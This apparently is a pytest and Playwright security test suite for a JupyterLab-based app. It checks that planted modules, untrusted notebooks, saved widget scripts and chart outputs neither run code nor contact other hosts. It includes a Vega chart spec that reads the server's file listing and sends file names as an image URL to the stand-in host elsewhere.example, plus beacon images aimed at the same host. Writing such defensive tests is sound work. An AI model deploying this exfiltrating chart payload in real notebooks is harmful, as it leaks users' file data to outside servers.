"""A stranger's folder and a stranger's notebook, opened for real."""

from __future__ import annotations

import json
import os
import re
import sys

import nbformat
import pytest
from in_browser import plain_jupyterlab
from long_run import some
from nbformat import v4
from nbformat.sign import NotebookNotary

# Names that a start, a kernel, its completer or the notebooks import.
MODULES = [
    "altair",
    "anywidget",
    "comm",
    "debugpy",
    "decorator",
    "drinklab",
    "ipykernel",
    "ipykernel_launcher",
    "ipywidgets",
    "IPython",
    "jedi",
    "json",
    "jupyter_client",
    "jupyter_core",
    "jupyter_server",
    "jupyterlab",
    "matplotlib_inline",
    "nbformat",
    "nest_asyncio",
    "numpy",
    "orjson",
    "pandas",
    "pint",
    "platformdirs",
    "psutil",
    "random",
    "scipy",
    "signal",
    "sitecustomize",
    "tornado",
    "traitlets",
    "usercustomize",
    "uuid",
    "vl_convert",
    "widgetsnbextension",
    "zmq",
]
SETTINGS = ["jupyter_config", "jupyter_server_config", "jupyter_lab_config", "jupyter_nbconvert_config"]
SETTINGS += ["ipython_config", "ipython_kernel_config"]
PANEL = "open('ran.txt', 'a').write('x')"


@pytest.fixture
def traps(tmp_path):
    """A working folder in which everything that anybody might run leaves a mark."""
    mark, folder = tmp_path / "sprung.txt", tmp_path / "home/bar"
    code = f"open({str(mark)!r}, 'a').write(__file__ + '\\n')\n"
    for name in MODULES + SETTINGS:
        _put(folder / f"{name}.py", code)
    for place in (".ipython/profile_default", "profile_default", ".jupyter", "lib/site-packages"):
        for name in [*SETTINGS, "startup/00_start", "usercustomize"]:
            _put(folder / place / f"{name}.py", code)
    spec = {"argv": [sys.executable, str(folder / "trap.py")], "display_name": "Python 3", "language": "python"}
    _put(folder / "trap.py", code)
    for place in ("kernels", "share/jupyter/kernels", ".local/share/jupyter/kernels", ".ipython/kernels"):
        _put(folder / place / "python3/kernel.json", json.dumps(spec))
    _put(tmp_path / "home/data/kernels/python3/kernel.json", json.dumps(spec))  # in the user's own folder, too
    return folder, mark


def _put(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


@pytest.mark.parametrize("started_in", some(["the folder", "elsewhere, with relative paths"], 1))
def test_nothing_in_the_folder_runs(page, start, environment, share_pictures, traps, started_in):
    folder, mark = traps
    home = folder.parent
    share_pictures(home / "data")
    env = environment(home, JUPYTER_DATA_DIR=home / "data", JUPYTER_RUNTIME_DIR=home / "runtime")
    if started_in != "the folder":
        env |= {"PYTHONPATH": os.pathsep.join(["", ".", "lib/site-packages", env["PYTHONPATH"]])}
        env |= {"PYTHONSTARTUP": "trap.py", "IPYTHONDIR": ".ipython", "JUPYTER_PATH": "share/jupyter"}
        env |= {"JUPYTER_CONFIG_PATH": ".jupyter"}
    with start(folder, "--no-browser", env=env, cwd=folder if started_in == "the folder" else home) as started:
        page.set_default_timeout(120_000)  # all of it for the first time
        page.goto(started.address)
        page.locator(".dl-bench .noUi-handle").first.wait_for()  # the bench itself, from our own packages
        page.wait_for_selector(".drinklab-note", state="detached")
        assert not mark.exists(), mark.read_text()
        page.get_by_role("button", name="Show code").click()
        page.locator(".jp-CodeCell .cm-content >> visible=true").last.click()
        page.keyboard.press("Control+End")
        page.keyboard.type("\nimport alta")  # the completer looks for modules, too
        page.keyboard.press("Tab")
        page.wait_for_timeout(2000)
        assert not mark.exists(), mark.read_text()


def _stranger(path):
    cells = [v4.new_markdown_cell("# Hello"), v4.new_code_cell(PANEL, metadata={"trusted": True})]
    metadata = {"drinklab": {"run_on_open": True}, "kernelspec": {"name": "python3", "display_name": "Python 3"}}
    nbformat.write(v4.new_notebook(metadata=metadata, cells=cells), path)


@pytest.fixture
def waits(page, lab):
    """That the notebook that is opened shows its button, and did not run."""
    ran = lab.folder / "ran.txt"
    ran.unlink(missing_ok=True)

    def look():
        page.get_by_role("button", name="Run it").wait_for()
        page.wait_for_timeout(3000)
        assert not ran.exists()

    return look


def test_a_strangers_notebook_that_plain_jupyterlab_saved_waits_for_a_click(page, lab, waits, environment):
    _stranger(lab.folder / "stranger.ipynb")
    own = {name: value for name, value in os.environ.items() if name.startswith("JUPYTER_")}  # as `lab` has them
    with plain_jupyterlab(lab.folder, environment(lab.folder.parent, **own)) as address:
        page.goto(f"{address}lab/tree/stranger.ipynb?reset&token=plain")
        page.wait_for_selector(".jp-Notebook h1")
        page.locator(".jp-CodeCell .cm-content").first.click()
        page.keyboard.press("Control+End")
        page.keyboard.type("  # mine")
        with page.expect_response(
            lambda answer: "/api/contents/stranger.ipynb" in answer.url and answer.request.method == "PUT"
        ) as saved:
            page.keyboard.press("Control+s")
        assert saved.value.ok
    with NotebookNotary(data_dir=os.environ["JUPYTER_DATA_DIR"]) as plain:  # it is trusted there now
        assert plain.check_signature(nbformat.read(lab.folder / "stranger.ipynb", 4))
    page.goto(lab.address("stranger.ipynb"))
    waits()


def test_a_notebook_that_was_put_here_by_the_page_waits_too(page, lab, waits, tmp_path):
    """It may say of itself that it is trusted."""
    for place in (tmp_path / "sent.ipynb", lab.folder / "stranger.ipynb"):
        _stranger(place)
    page.goto(lab.address("stranger.ipynb"))  # a page that runs nothing
    page.get_by_role("button", name="All notebooks").click()
    with page.expect_file_chooser() as chosen:
        page.locator(".jp-FileBrowser-toolbar").get_by_role("button", name=re.compile("Upload")).click()
    with page.expect_response(
        lambda answer: "/api/contents/sent.ipynb" in answer.url and answer.request.method == "PUT"
    ) as put:
        chosen.value.set_files(tmp_path / "sent.ipynb")
    assert put.value.ok
    page.goto(lab.address("sent.ipynb"))
    waits()


def test_what_waits_to_be_trusted_offers_no_other_way_to_run(page, lab, waits):
    """Also where another page has run it meanwhile: only the button that says what it does is there."""
    _stranger(lab.folder / "two.ipynb")
    page.goto(lab.address("two.ipynb"))
    waits()
    second = page.context.new_page()
    second.goto(lab.address("two.ipynb"))
    second.get_by_role("button", name="Run it").click()
    second.wait_for_selector(".drinklab-note", state="detached", timeout=60_000)
    assert (lab.folder / "ran.txt").read_text() == "x"
    page.wait_for_timeout(2000)
    assert page.get_by_role("button", name="Run it").count() == 1
    assert page.get_by_role("button", name="Go on here").count() == 0
    second.close()


SCRIPT = "document.documentElement.dataset.sprung = 'yes'; export default {render() {}}"
# Vega's own data and marks (vega.github.io/vega/docs, "Data" and "Image"): read a page of ours, put what it says into
# the address of a picture.
TELLS = {
    "data": [{"name": "page", "url": "/api/contents/", "format": {"type": "json", "property": "content"}}],
    "marks": [
        {
            "type": "image",
            "from": {"data": "page"},
            "encode": {
                "enter": {"url": {"signal": "'https://elsewhere.example/?' + datum.name"}, "width": {"value": 9}}
            },
        }
    ],
}


def _shows(path, *outputs, **more):
    cells = [v4.new_markdown_cell("# Hello\n\n![](https://elsewhere.example/seen)"), v4.new_code_cell("1")]
    cells[1].outputs = [v4.new_output("display_data", one) for one in outputs]
    metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3"}, **more}
    nbformat.write(v4.new_notebook(metadata=metadata, cells=cells), path)


def test_a_strangers_saved_widget_runs_no_script(page, lab):
    """JupyterLab makes each widget that a notebook holds as it opens, shown or not."""
    about = {"_model_module": "anywidget", "_model_name": "AnyModel", "_model_module_version": "*"}
    one = {"model_name": "AnyModel", "model_module": "anywidget", "model_module_version": "*"}
    held = {"version_major": 2, "version_minor": 0, "state": {"a" * 32: {**one, "state": {**about, "_esm": SCRIPT}}}}
    _shows(lab.folder / "saved.ipynb", widgets={"application/vnd.jupyter.widget-state+json": held})
    page.goto(lab.address("saved.ipynb"))
    page.wait_for_selector(".jp-Notebook h1")
    page.wait_for_timeout(5000)
    assert page.evaluate("document.documentElement.dataset.sprung") is None
    with NotebookNotary(data_dir=os.path.join(os.environ["JUPYTER_DATA_DIR"], "drinklab")) as ours:  # and as a check:
        ours.sign(nbformat.read(lab.folder / "saved.ipynb", 4))
    page.goto(lab.address("saved.ipynb"))
    page.wait_for_selector("html[data-sprung]", state="attached")


def test_what_a_stranger_shows_tells_nobody_that_it_is_looked_at(page, lab):
    """A chart may read what the page may read; nothing of it goes to another computer."""
    picture = {"text/html": "<img src='https://elsewhere.example/html'>"}
    _shows(lab.folder / "tells.ipynb", {"application/vnd.vega.v5+json": TELLS}, picture)
    asked, kept = [], []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.on("console", lambda said: kept.append(said.text))
    page.goto(lab.address("tells.ipynb"))
    page.wait_for_selector(".jp-Notebook h1")
    page.wait_for_selector(".jp-OutputArea-output img", state="attached")
    page.wait_for_timeout(5000)
    assert not [address for address in asked if "elsewhere" in address]
    stopped = " ".join(said for said in kept if "Content Security Policy" in said)
    for way in ("seen", "html", "?00_bench.ipynb"):  # each was tried
        assert f"https://elsewhere.example/{way}" in stopped
